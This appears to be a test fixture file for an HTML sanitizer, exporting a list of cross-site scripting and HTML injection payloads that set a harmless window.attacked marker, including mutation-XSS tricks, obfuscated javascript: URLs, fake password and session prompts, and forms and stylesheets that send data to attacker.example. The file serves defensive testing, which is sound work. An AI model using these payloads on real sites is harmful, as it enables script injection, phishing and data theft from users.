/**
 * HTML that would run, load or send something if inserted unchanged into the page. Each would set
 * `window.attacked`.
 */
export const attacks = [
  '<img src=x onerror="window.attacked=1">',
  '<script>window.attacked=1</script>',
  '<svg onload="window.attacked=1"><script>window.attacked=1</script></svg>',
  '<a href="javascript:window.attacked=1" target="_blank">click</a>',
  '<a href="java&#09;script:window.attacked=1" target="_blank">click</a>',
  '<a href="data:text/html,<script>window.attacked=1</script>" target="_blank">click</a>',
  '<iframe srcdoc="<script>parent.attacked=1</script>"></iframe>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.attacked=1&gt;">',
  '<form action="https://attacker.example"><input name="offer"><button>Send</button></form>',
  '<style>*{background:url(https://attacker.example/leak)}</style>',
  '<label>Password <input type="password" autofocus></label><textarea>yours</textarea>',
  '<select><option>one</option></select><button formaction="https://attacker.example">Go on</button>',
  '<dialog open>Your session has ended</dialog>',
  '<p class="form-error" id="offer" name="offer" tabindex="1" popover>in the looks of the page</p>',
  '<a href="https://attacker.example" target="_top">on</a><a href="/" target="offergrade">on</a>',
  '<object data="javascript:window.attacked=1"></object><embed src="javascript:window.attacked=1">',
  '<p style="position:fixed;inset:0" onmouseover="window.attacked=1">over everything</p>',
  '<base href="https://attacker.example/"><link rel="stylesheet" href="https://attacker.example/x.css">',
  '<noscript><p title="</noscript><img src=x onerror=window.attacked=1>">',
];
